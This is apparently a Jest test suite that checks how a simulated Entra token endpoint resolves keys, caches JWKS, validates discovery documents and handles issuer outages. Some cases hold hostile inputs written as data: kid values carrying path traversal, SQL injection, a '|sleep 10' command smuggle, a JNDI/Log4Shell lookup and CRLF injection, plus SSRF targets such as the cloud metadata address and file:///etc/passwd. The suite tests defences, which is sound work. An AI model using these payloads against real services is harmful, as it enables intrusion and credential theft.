import { randomUUID } from 'node:crypto';
import { expect } from '@jest/globals';
import { fetchJson, FetchFailure } from '../../../src/core/fetch/hardened-fetch.js';
import { expectAnswer } from '../helpers/expect-answer.js';
import { ENTRA_PATHS, type SecurityLab } from '../helpers/security-lab.js';
import type { ScenarioCase } from './case.js';


/** Back to a warm, healthy issuer: cache dropped, behaviours cleared, rsa1 and ec1 published, clock true. */
export async function resetIssuers(lab: SecurityLab): Promise<void> {
  lab.ctx.clock.setOffsetMs(0);
  lab.entra.issuerKeys.forget();
  for (const issuer of [lab.fi, lab.fi2]) {
    issuer.heal();
    issuer.published = ['rsa1', 'ec1'];
  }
}

const advance = (lab: SecurityLab, seconds: number) => lab.ctx.clock.setOffsetMs(lab.ctx.clock.offsetMs() + seconds * 1000);

/** Send on every Entra path (CA, TE, MI) and check the answer; returns the outbound requests it caused. */
async function both(lab: SecurityLab, make: () => Promise<string>, expected: number | 'accept'): Promise<number> {
  const before = lab.outbound();
  for (const path of ENTRA_PATHS) {
    const token = await make();
    expectAnswer(path, await lab.send(path, token), expected, token);
  }
  expect(lab.canary.hits).toBe(0);
  return lab.outbound() - before;
}

const signWithKid = (lab: SecurityLab, kid: string) => () => lab.kit('ca').sign({ header: lab.kit('ca').header('RS256', { kid }) });
const valid = (lab: SecurityLab) => () => lab.kit('ca').sign();

/** Families B (key resolution, JWKS, discovery) and F (availability), on the Entra token endpoint (CA, TE and MI). */
export const KEY_CASES: ScenarioCase[] = [
  {
    id: 'B-01',
    title: 'unknown kid, and the refetch throttle',
    craft: 'warm cache; 20 valid-signature tokens with random kids within the cooldown',
    answer: 'AADSTS7000272 each; at most one refetch (discovery + JWKS = 2 requests) per 30 s cooldown',
    paths: 'CA, TE, MI',
    async run(lab) {
      await both(lab, valid(lab), 'accept');
      const before = lab.outbound();
      for (let i = 0; i < 10; i++) await both(lab, signWithKid(lab, randomUUID()), 7000272);
      expect(lab.outbound() - before).toBeLessThanOrEqual(2);
    },
  },
  {
    id: 'B-02',
    title: 'unknown-kid storm while the JWKS endpoint fails (cooldown holds while failing)',
    craft: 'warm cache; cooldown passes; JWKS answers 503; 25 tokens with random kids',
    answer: 'AADSTS7000272 each (the last good key set is kept); one outbound attempt per cooldown, not one per request',
    paths: 'CA, TE, MI',
    async run(lab) {
      await both(lab, valid(lab), 'accept');
      advance(lab, 31);
      lab.fi.behaviour.jwks = { status: 503 };
      const before = lab.outbound();
      for (let i = 0; i < 25; i++) await both(lab, signWithKid(lab, randomUUID()), 7000272);
      expect(lab.outbound() - before).toBeLessThanOrEqual(2);
      await both(lab, valid(lab), 'accept');
    },
  },
  {
    id: 'B-03',
    title: 'kid as an injection vector',
    craft: 'trusted-signed tokens whose kid is ../../../../dev/null, SQL, |sleep 10, ${jndi:ldap://canary}, CRLF, 8 KiB, NUL',
    answer: 'AADSTS7000272 (no such kid); canary 0; each answer under 1 s',
    paths: 'CA, TE, MI',
    async run(lab) {
      const kids = ['../../../../dev/null', "x' UNION SELECT 'secret'--", '|sleep 10', `\${jndi:ldap://${lab.canary.url.slice(7)}/a}`, '\r\nX-Injected: 1', 'k'.repeat(8192), 'a\u0000b'];
      for (const kid of kids) {
        const started = Date.now();
        await both(lab, signWithKid(lab, kid), 7000272);
        expect(Date.now() - started).toBeLessThan(2000);
      }
    },
  },
  {
    id: 'B-04',
    title: 'no kid, a single usable key (pinned: kid required)',
    craft: 'the JWKS holds one RSA key; the token header has no kid',
    answer: 'AADSTS7000272 (kid required, as AWS always sends one)',
    paths: 'CA, TE, MI',
    async run(lab) {
      lab.fi.published = ['rsa1'];
      await both(lab, () => lab.kit('ca').sign({ header: { typ: 'JWT', alg: 'RS256' } }), 7000272);
    },
  },
  {
    id: 'B-05',
    title: 'no kid, several candidate keys',
    craft: 'the JWKS holds two RSA keys; the token has no kid',
    answer: 'AADSTS7000272; never a loop over keys',
    paths: 'CA, TE, MI',
    async run(lab) {
      await lab.fi.addKey('RS256', { kid: `rsa-b05-${randomUUID()}` });
      await both(lab, () => lab.kit('ca').sign({ header: { typ: 'JWT', alg: 'RS256' } }), 7000272);
    },
  },
  {
    id: 'B-06',
    title: 'rotation: a new key is picked up after exactly one refetch',
    craft: 'cache holds {rsa1, ec1}; the issuer publishes a new RSA key and signs with it',
    answer: 'ACCEPT, with one refetch (2 requests)',
    paths: 'CA, TE, MI',
    async run(lab) {
      await both(lab, valid(lab), 'accept');
      advance(lab, 31);
      const key = await lab.fi.addKey('RS256', { kid: `rsa-b06-${randomUUID()}` });
      const fetched = await both(lab, () => lab.kit('ca').sign({ kid: key.kid, header: lab.kit('ca').header('RS256', { kid: key.kid }) }), 'accept');
      expect(fetched).toBe(2);
    },
  },
  {
    id: 'B-07',
    title: 'key removal: revocation latency is the cache age',
    craft: 'the issuer drops rsa1; tokens signed with rsa1 keep coming',
    answer: 'ACCEPT while the cached set is younger than cacheMaxAge (600 s), then AADSTS7000272',
    paths: 'CA, TE, MI',
    async run(lab) {
      await both(lab, valid(lab), 'accept');
      lab.fi.published = ['ec1'];
      advance(lab, 300);
      await both(lab, valid(lab), 'accept');
      advance(lab, 301);
      await both(lab, valid(lab), 7000272);
    },
  },
  {
    id: 'B-08',
    title: 'unusable keys beside the good one',
    craft: 'JWKS of an AKP key with an unknown alg, {"kty":"FOO"}, rsa1',
    answer: 'rsa1 tokens ACCEPT; a token naming the FOO key: AADSTS7000272; no 500',
    paths: 'CA, TE, MI',
    async run(lab) {
      const good = lab.fi.keys.get('rsa1')!.publicJwk;
      lab.fi.behaviour.jwks = { json: { keys: [{ kty: 'AKP', alg: 'ML-DSA-99', kid: 'pq', pub: 'AAAA' }, { kty: 'FOO', kid: 'x' }, good] } };
      await both(lab, valid(lab), 'accept');
      await both(lab, signWithKid(lab, 'x'), 7000272);
    },
  },
  {
    id: 'B-09',
    title: 'key metadata constraints (use, alg, kty)',
    craft: 'rsa1 published with use "enc", or with alg "RS512" against an RS256 token; an ES384 token naming the RSA kid',
    answer: 'AADSTS7000272 (no usable key for the header)',
    paths: 'CA, TE, MI',
    async run(lab) {
      lab.fi.jwkOverrides.rsa1 = { use: 'enc' };
      await both(lab, valid(lab), 7000272);
      await resetIssuers(lab);
      lab.fi.jwkOverrides.rsa1 = { alg: 'RS512' };
      await both(lab, valid(lab), 7000272);
      await resetIssuers(lab);
      await both(lab, () => lab.kit('ca').sign({ alg: 'ES384', header: lab.kit('ca').header('ES384', { kid: 'rsa1' }) }), 7000272);
    },
  },
  {
    id: 'B-10',
    title: 'weak key material (RSA-1024)',
    craft: 'the issuer publishes a 1024-bit RSA key and signs with it',
    answer: 'AADSTS700027 (jose refuses short moduli with a TypeError, mapped to a 4xx), never a 500',
    paths: 'CA, TE, MI',
    async run(lab) {
      const weak = await lab.fi.addKey('RS256', { kid: `weak-${randomUUID()}`, modulusLength: 1024 });
      await both(lab, () => lab.fi.signRaw(JSON.stringify(lab.kit('ca').header('RS256', { kid: weak.kid })), JSON.stringify(lab.kit('ca').claims()), weak.kid), 700027);
    },
  },
  {
    id: 'B-11',
    title: 'the JWKS leaks private key members',
    craft: 'rsa1 published with d, p, q',
    answer: 'AADSTS50166: the key set is refused as a whole (fail closed)',
    paths: 'CA, TE, MI',
    async run(lab) {
      lab.fi.jwkOverrides.rsa1 = { d: 'AAAA', p: 'AAAA', q: 'AAAA' };
      await both(lab, valid(lab), 50166);
    },
  },
  {
    id: 'B-12',
    title: 'an EC public key off the curve',
    craft: 'ec1 published with x = y = 0 (base64url of 48 zero bytes); an ES384 token; an RS256 token beside it',
    answer: 'ES384: refused (AADSTS50166, the key does not import); RS256 keeps working',
    paths: 'CA, TE, MI',
    async run(lab) {
      const zero = Buffer.alloc(48).toString('base64url');
      lab.fi.jwkOverrides.ec1 = { x: zero, y: zero };
      await both(lab, () => lab.kit('ca').sign({ alg: 'ES384' }), 50166);
      await both(lab, valid(lab), 'accept');
    },
  },
  {
    id: 'B-13',
    title: 'an issuer no credential names causes no network I/O (SSRF)',
    craft: 'attacker-signed tokens whose iss is 169.254.169.254, 127.0.0.1:8080, localhost, [::1], 0x7f000001, kubernetes.default.svc, file:///etc/passwd, the canary',
    answer: 'AADSTS700211; zero outbound requests; canary 0',
    paths: 'CA, TE, MI',
    async run(lab) {
      const issuers = ['http://169.254.169.254/latest/meta-data/', 'http://127.0.0.1:8080', 'http://localhost', 'https://[::1]', 'http://0x7f000001', 'https://kubernetes.default.svc', 'file:///etc/passwd', lab.canary.url];
      for (const iss of issuers) expect(await both(lab, () => lab.kit('ca').attackerSign({ claims: { iss } }), 700211)).toBe(0);
    },
  },
  {
    id: 'B-14',
    title: 'the discovery document is validated',
    craft: 'discovery names issuer I + "/", a jwks_uri on 169.254.169.254, on another loopback port (the canary) or another scheme, or no jwks_uri',
    answer: 'AADSTS50166 with Entra\'s generic text (fail closed; jwks_uri must share the issuer\'s origin); canary 0',
    paths: 'CA, TE, MI',
    async run(lab) {
      const otherScheme = lab.fi.base.startsWith('https:') ? lab.fi.base.replace('https:', 'http:') : lab.fi.base.replace('http:', 'https:');
      for (const overrides of [{ issuer: `${lab.fi.issuer}/` }, { jwks_uri: 'http://169.254.169.254/latest/jwks' }, { jwks_uri: `${lab.canary.url}/jwks` }, { jwks_uri: `${otherScheme}/jwks` }, { jwks_uri: undefined }]) {
        await resetIssuers(lab);
        lab.fi.discoveryOverrides = overrides;
        await both(lab, valid(lab), 50166);
      }
    },
  },
  {
    id: 'B-15',
    title: 'redirects are never followed',
    craft: 'discovery or JWKS answers 301/302/307/308 to the canary or 169.254.169.254',
    answer: 'AADSTS50166; canary 0',
    paths: 'CA, TE, MI',
    async run(lab) {
      for (const [stage, status, location] of [['discovery', 302, lab.canary.url], ['jwks', 301, `${lab.canary.url}/jwks`], ['jwks', 307, 'http://169.254.169.254/'], ['discovery', 308, lab.canary.url]] as const) {
        await resetIssuers(lab);
        lab.fi.behaviour[stage] = { status, location };
        await both(lab, valid(lab), 50166);
      }
    },
  },
  {
    id: 'B-16',
    title: 'oversized responses are cut at the cap',
    craft: 'a chunked 10 MiB JWKS with no Content-Length',
    answer: 'AADSTS50166; RSS grows by less than 32 MiB',
    paths: 'CA, TE, MI',
    async run(lab) {
      lab.fi.behaviour.jwks = { hugeBytes: 10 * 1024 * 1024 };
      const rss = process.memoryUsage().rss;
      await both(lab, valid(lab), 50166);
      expect(process.memoryUsage().rss - rss).toBeLessThan(32 * 1024 * 1024);
    },
  },
  {
    id: 'B-16b',
    title: 'at most 100 keys are kept (Entra keeps the first 100)',
    craft: 'a JWKS of 120 keys where the signing key is the 110th',
    answer: 'AADSTS7000272',
    paths: 'CA, TE, MI',
    async run(lab) {
      const good = lab.fi.keys.get('rsa1')!.publicJwk;
      const fillers = Array.from({ length: 109 }, (_, i) => ({ ...good, kid: `filler-${i}` }));
      lab.fi.behaviour.jwks = { json: { keys: [...fillers, good, ...fillers.slice(0, 10)] } };
      await both(lab, valid(lab), 7000272);
    },
  },
  {
    id: 'B-17',
    title: 'a hung issuer is cut off by the timeout',
    craft: 'the JWKS accepts the connection and never answers (fetch timeout 1 s in this lab)',
    answer: 'AADSTS50166 within timeout + 1 s; the second path within the cooldown makes no new attempt',
    paths: 'CA, TE, MI',
    async run(lab) {
      lab.fi.behaviour.jwks = { hang: true };
      const started = Date.now();
      expect(await both(lab, valid(lab), 50166)).toBe(2);
      expect(Date.now() - started).toBeLessThan(4000);
    },
  },
  {
    id: 'B-17b',
    title: 'a dripping issuer is cut off by the whole-exchange deadline',
    craft: 'the JWKS answers 200 and then one byte every 100 ms (never idle long enough for a socket timeout)',
    answer: 'AADSTS50166 within the 1 s timeout + 1 s (the deadline covers the body, not only idle time)',
    paths: 'CA, TE, MI',
    async run(lab) {
      lab.fi.behaviour.jwks = { dripMs: 100 };
      const started = Date.now();
      expect(await both(lab, valid(lab), 50166)).toBe(2);
      expect(Date.now() - started).toBeLessThan(4000);
    },
  },
  {
    id: 'B-18',
    title: 'malformed JWKS content',
    craft: 'HTML with 200, [], {"keys":"x"}, {"keys":[1,2]}, JSON with trailing garbage, a UTF-16 body',
    answer: 'AADSTS50166 each; no 500',
    paths: 'CA, TE, MI',
    async run(lab) {
      const variants = [
        { contentType: 'text/html', body: '<html>keys</html>' },
        { body: '[]' },
        { body: '{"keys":"x"}' },
        { body: '{"keys":[1,2]}' },
        { body: '{"keys":[]}garbage' },
        { body: Buffer.from('{"keys":[]}', 'utf16le').toString('latin1') },
      ];
      for (const behaviour of variants) {
        await resetIssuers(lab);
        lab.fi.behaviour.jwks = behaviour;
        await both(lab, valid(lab), 50166);
      }
    },
  },
  {
    id: 'B-20',
    title: 'the address rule applies to the resolved address',
    craft: 'fetchJson("http://localhost:<port>/…") under a policy that refuses loopback (localhost resolves to 127.0.0.1)',
    answer: 'FetchFailure "resolved address not allowed" before any connection',
    paths: 'hardened fetcher',
    async run(lab) {
      const before = lab.fi.counts.discovery;
      const url = `${lab.fi.base.replace('127.0.0.1', 'localhost')}/x/.well-known/openid-configuration`;
      await expect(fetchJson(url, { timeoutMs: 1000, maxBytes: 1024, requireHttps: false, addresses: { allowLoopback: false, allowPrivate: false, allowLinkLocal: false } })).rejects.toThrow(FetchFailure);
      expect(lab.fi.counts.discovery).toBe(before);
    },
  },
  {
    id: 'B-21',
    title: 'keys are never confused across issuers',
    craft: 'FI and FI2 both trusted; a token with iss = FI, kid = a kid FI2 also uses, signed by FI2\'s key',
    answer: 'AADSTS700027 (FI\'s own key under that kid does not verify it)',
    paths: 'CA, TE, MI',
    async run(lab) {
      await both(lab, () => lab.fi2.signRaw(JSON.stringify(lab.kit('ca').header('RS256')), JSON.stringify(lab.kit('ca').claims()), 'rsa1'), 700027);
    },
  },
  {
    id: 'F-01',
    title: 'cold start with the JWKS unreachable',
    craft: 'empty cache; JWKS answers 503; two requests within the cooldown',
    answer: 'AADSTS50166 (Entra\'s "Request to External OIDC endpoint failed"); one attempt for both',
    paths: 'CA, TE, MI',
    async run(lab) {
      lab.fi.behaviour.jwks = { status: 503 };
      expect(await both(lab, valid(lab), 50166)).toBe(2);
    },
  },
  {
    id: 'F-02',
    title: 'JWKS outage after the cache expires: stale-while-error',
    craft: 'warm; clock past cacheMaxAge; JWKS answers 503; 10 known-kid requests a second apart (party clock)',
    answer: 'ACCEPT with the last good keys; one outbound attempt per cooldown',
    paths: 'CA, TE, MI',
    async run(lab) {
      await both(lab, valid(lab), 'accept');
      advance(lab, 601);
      lab.fi.behaviour.jwks = { status: 503 };
      const before = lab.outbound();
      for (let i = 0; i < 10; i++) {
        await both(lab, valid(lab), 'accept');
        advance(lab, 1);
      }
      expect(lab.outbound() - before).toBeLessThanOrEqual(2);
    },
  },
  {
    id: 'F-03',
    title: 'a slow JWKS under concurrency: one fetch in flight',
    craft: 'JWKS answers after 300 ms; 30 concurrent valid requests on a cold cache',
    answer: 'ACCEPT all; exactly one discovery and one JWKS fetch',
    paths: 'CA',
    async run(lab) {
      lab.fi.behaviour.jwks = { delayMs: 300 };
      const before = lab.outbound();
      const tokens = await Promise.all(Array.from({ length: 30 }, () => lab.kit('ca').sign()));
      const answers = await Promise.all(tokens.map((t) => lab.send('ca', t)));
      for (const a of answers) expectAnswer('ca', a, 'accept');
      expect(lab.outbound() - before).toBe(2);
    },
  },
  {
    id: 'F-04',
    title: 'a valid but empty JWKS is authoritative',
    craft: 'the issuer answers {"keys":[]}',
    answer: 'AADSTS7000272',
    paths: 'CA, TE, MI',
    async run(lab) {
      lab.fi.published = [];
      await both(lab, valid(lab), 7000272);
    },
  },
  {
    id: 'F-06',
    title: 'a key used before it is published',
    craft: 'the issuer signs with an unpublished key, publishes it, the client retries within and after the cooldown',
    answer: 'AADSTS7000272 without a new fetch within the cooldown; ACCEPT on the first retry after it',
    paths: 'CA, TE, MI',
    async run(lab) {
      await both(lab, valid(lab), 'accept');
      advance(lab, 31);
      const key = await lab.fi.addKey('RS256', { kid: `early-${randomUUID()}`, publish: false });
      const make = () => lab.kit('ca').sign({ kid: key.kid, header: lab.kit('ca').header('RS256', { kid: key.kid }) });
      expect(await both(lab, make, 7000272)).toBe(2);
      lab.fi.published.push(key.kid);
      expect(await both(lab, make, 7000272)).toBe(0);
      advance(lab, 31);
      expect(await both(lab, make, 'accept')).toBe(2);
    },
  },
  {
    id: 'F-07',
    title: 'discovery moves jwks_uri on the same host',
    craft: 'the discovery document names the JWKS under a new query string',
    answer: 'the new jwks_uri is used at the next refresh; ACCEPT',
    paths: 'CA, TE, MI',
    async run(lab) {
      lab.fi.discoveryOverrides = { jwks_uri: `${lab.fi.issuer}/.well-known/jwks.json?v=2` };
      await both(lab, valid(lab), 'accept');
    },
  },
  {
    id: 'F-09',
    title: 'caches stay bounded under unique kids',
    craft: '200 requests with unique kids',
    answer: 'AADSTS7000272 each; outbound bounded by the cooldown (≤ 2 requests)',
    paths: 'CA',
    async run(lab) {
      await both(lab, valid(lab), 'accept');
      const before = lab.outbound();
      for (let i = 0; i < 200; i++) expectAnswer('ca', await lab.send('ca', await signWithKid(lab, randomUUID())()), 7000272);
      expect(lab.outbound() - before).toBeLessThanOrEqual(2);
    },
  },
  {
    id: 'F-10',
    title: 'clock faults',
    craft: 'Entra\'s clock 10 minutes behind, then 10 minutes ahead of the issuer (skew 300 s)',
    answer: 'behind: AADSTS700024 (iat in the future); ahead: AADSTS700024 (expired); never an expired token accepted',
    paths: 'CA, TE, MI',
    async run(lab) {
      await both(lab, valid(lab), 'accept');
      const token = await lab.kit('ca').sign();
      lab.ctx.clock.setOffsetMs(-600_000);
      for (const path of ENTRA_PATHS) expectAnswer(path, await lab.send(path, token), 700024, token);
      lab.ctx.clock.setOffsetMs(600_000);
      for (const path of ENTRA_PATHS) expectAnswer(path, await lab.send(path, token), 700024, token);
    },
  },
];
